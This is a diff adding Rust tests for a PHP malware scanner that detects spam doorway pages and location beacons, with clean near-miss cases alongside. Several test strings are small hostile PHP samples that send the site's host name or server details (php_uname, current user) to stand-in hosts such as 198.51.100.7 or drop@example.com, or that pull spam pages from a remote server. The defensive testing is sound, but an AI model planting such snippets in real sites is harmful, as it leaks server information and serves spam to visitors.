@@ -1,0 +1,121 @@
+//! Tests of [`super`]: each family with its own minimal shape, a clean near-miss, and its fixture.
+
+use crate::detect::Why;
+use crate::php;
+
+fn found(src: &str) -> Vec<Why> {
+    let t = php::tokenize(src.as_bytes(), 100_000);
+    super::analyze(src.as_bytes(), &t, super::Options { small: t.len() < 400 }).into_iter().map(|s| s.why).collect()
+}
+
+#[test]
+fn a_page_fetched_from_another_site_by_this_sites_name_is_a_doorway() {
+    let direct = "<?php $r = 'http://pages.example.net/'; $me = 'http://' . $_SERVER['HTTP_HOST'];\n\
+                  $page = file_get_contents($r . '?site=' . $me . '&q=' . $_SERVER['QUERY_STRING']);\necho $page;";
+    assert_eq!(found(direct), [Why::SpamDoorway]);
+    // Through a function of the file's own, defined after its call.
+    let wrapped = "<?php $html = fetch('http://203.0.113.9/gen.php?h=' . $_SERVER['SERVER_NAME']); echo $html;\n\
+                   function fetch($u) { return @file_get_contents($u); }";
+    assert_eq!(found(wrapped), [Why::SpamDoorway]);
+    // Saved as the site's pages.
+    let saved = "<?php $p = @file_get_contents(\"https://gen.example.org/?host=\" . $_SERVER['HTTP_HOST']);\n\
+                 file_put_contents('index.html', $p);";
+    assert_eq!(found(saved), [Why::SpamDoorway]);
+}
+
+#[test]
+fn pages_written_from_another_servers_database_by_this_sites_name_are_a_doorway() {
+    let src = "<?php $db = mysql_connect('db7.example.net', 'u', 'p'); mysql_select_db('pages', $db);\n\
+               $q = mysql_query('select * from ' . str_replace('.', '_', $_SERVER['SERVER_NAME']));\n\
+               while ($r = mysql_fetch_array($q)) { @mkdir($r['slug']); \
+               file_put_contents($r['slug'] . '/index.html', $r['html']); }";
+    assert_eq!(found(src), [Why::SpamDoorway]);
+    // The site's own database on this server: a multi-site cache writing its pages.
+    let local = src.replace("db7.example.net", "localhost");
+    assert!(found(&local).is_empty());
+    // Another server's database read by the site's name, nothing written (a shared login).
+    let lookup = "<?php $db = mysqli_connect('db.example.net', 'u', 'p', 'sites');\n\
+                  $r = mysqli_query($db, \"select * from sites where host='\" . $_SERVER['HTTP_HOST'] . \"'\");";
+    assert!(found(lookup).is_empty());
+}
+
+#[test]
+fn own_pages_licence_checks_and_feeds_are_not_doorways() {
+    // A cache fetching the site's own page.
+    let cache = "<?php $p = file_get_contents('http://' . $_SERVER['HTTP_HOST'] . '/index.php'); echo $p;";
+    assert!(found(cache).is_empty());
+    // A licence check sends the name away but prints no page.
+    let licence = "<?php $ok = file_get_contents('https://vendor.example.com/check?d=' . $_SERVER['HTTP_HOST']);\n\
+                   if ($ok !== 'valid') { echo 'Please activate.'; }";
+    assert!(found(licence).is_empty());
+    // A feed printed from another site, not chosen by this site's name.
+    let feed = "<?php $f = file_get_contents('https://news.example.com/feed.xml'); echo $f;";
+    assert!(found(feed).is_empty());
+    // A class's method is the application's own.
+    let method = "<?php class Remote { function page() { $p = file_get_contents('http://a.example.com/?h=' . \
+                  $_SERVER['HTTP_HOST']); echo $p; } }";
+    assert!(found(method).is_empty());
+}
+
+#[test]
+fn server_facts_mailed_by_a_script_no_visitor_drives_are_a_beacon() {
+    let beacon = "<?php $who = get_current_user(); $os = php_uname();\n\
+                  $where = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n\
+                  mail('drop@example.com', 'new', \"$who $os $where\");";
+    assert_eq!(found(beacon), [Why::ReportsItsLocation]);
+    // The same in a script that also reads a form (the beacon mails none of it).
+    let with_form = format!("{beacon}\n$note = $_POST['note'];");
+    assert_eq!(found(&with_form), [Why::ReportsItsLocation]);
+}
+
+#[test]
+fn this_sites_name_sent_to_another_site_from_the_top_of_a_page_is_a_beacon() {
+    let beacon = "<?php @file_get_contents('http://198.51.100.7/in.php?h=' . urlencode($_SERVER['HTTP_HOST'])); ?>\
+                  <html><body>Shop</body></html>";
+    assert_eq!(found(beacon), [Why::ReportsItsLocation]);
+    // A licence check uses the answer.
+    let licence = "<?php $ok = file_get_contents('https://vendor.example.com/check?d=' . $_SERVER['HTTP_HOST']);";
+    assert!(found(licence).is_empty());
+    // Inside the application's function (a plugin's ping on activation).
+    let ping =
+        "<?php function activate() { file_get_contents('https://stats.example.com/?s=' . $_SERVER['HTTP_HOST']); }";
+    assert!(found(ping).is_empty());
+}
+
+#[test]
+fn a_contact_form_or_a_status_page_is_not_a_beacon() {
+    // A form mails what the visitor typed.
+    let form =
+        "<?php $ua = php_uname(); mail('me@example.com', 'Contact from ' . $_SERVER['HTTP_HOST'], $_POST['msg']);";
+    assert!(found(form).is_empty());
+    // Server facts shown, not mailed.
+    assert!(found("<?php echo php_uname() . ' on ' . $_SERVER['HTTP_HOST'];").is_empty());
+    // Mail sent from the application's function.
+    let inside = "<?php function report() { mail('a@example.com', 's', php_uname() . $_SERVER['HTTP_HOST']); }";
+    assert!(found(inside).is_empty());
+}
+
+#[test]
+fn the_fixtures_are_found() {
+    let cases: &[(&str, &str, Why)] = &[
+        (
+            "doorway_remote_pages.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/doorway_remote_pages.php"),
+            Why::SpamDoorway,
+        ),
+        (
+            "beacon_server_facts.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/beacon_server_facts.php"),
+            Why::ReportsItsLocation,
+        ),
+        (
+            "host_beacon_page.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/host_beacon_page.php"),
+            Why::ReportsItsLocation,
+        ),
+    ];
+    for (name, src, why) in cases {
+        let hits = crate::detect::judge(&format!("lib/{name}"), name, src.as_bytes(), &[]);
+        assert!(hits.iter().any(|h| h.why == *why), "{name}: {hits:?}");
+    }
+}
